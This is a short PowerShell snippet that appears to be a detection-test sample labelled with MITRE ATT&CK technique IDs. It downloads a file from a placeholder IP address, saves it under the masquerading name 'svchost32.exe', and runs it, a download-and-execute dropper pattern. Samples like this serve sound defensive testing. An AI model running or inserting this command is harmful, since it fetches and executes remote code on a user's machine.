# expect: T1105 T1204.002
$wc = New-Object System.Net.WebClient
$path = "C:\ProgramData\svchost32.exe"
$wc.DownloadFile('http://203.0.113.8/x', $path)
Invoke-Item $path
